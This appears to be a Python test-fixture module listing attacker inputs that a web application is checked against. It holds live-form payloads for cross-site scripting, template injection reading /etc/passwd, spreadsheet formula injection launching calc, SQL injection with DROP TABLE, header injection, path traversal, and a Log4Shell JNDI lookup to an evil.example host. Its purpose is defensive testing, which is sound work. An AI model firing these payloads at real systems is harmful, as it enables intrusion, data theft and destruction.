"""Texts that attackers send, each for a weakness of its own."""

from __future__ import annotations

RAW = "<x7q"
"""What no page may hold: the beginning of an element that somebody sent."""
CANARY = f"{RAW} onfocus=alert(1) autofocus>\"'><script>{RAW}</script>"
TEMPLATE_BOMBS = (
    "{{ 7*191 }}{% for i in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{{ config }}",
)
FORMULAS = ("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")
WORDS = (
    CANARY,
    *TEMPLATE_BOMBS,
    *FORMULAS,
    "",
    "0",
    "-1",
    "9" * 400,
    "1e309",
    "NaN",
    "null",
    "\0",
    "a\0b",
    "a\r\nSet-Cookie: evil=1",
    "a\nLocation: https://evil.example",
    "\x02plain\x1fticket\x03",
    "\x02known\x1fx7q\x03\x03\x02",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "' OR 1=1 --",
    '"; DROP TABLE page; --',
    "%s%s%n",
    "%(x)s",
    "${jndi:ldap://evil.example}",
    "\ud800",
    "\ufeff\u202e\u2028",
    "é" * 300,
    "a" * 5_000,
    "([{<" * 60,
)
